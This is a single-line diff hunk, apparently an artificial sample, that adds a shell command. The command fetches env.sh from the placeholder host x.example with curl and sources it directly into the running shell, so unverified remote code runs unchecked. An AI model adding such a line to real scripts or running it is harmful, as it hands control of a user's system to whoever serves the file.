@@ -1,0 +1,1 @@
+source <(curl -s http://x.example/env.sh)
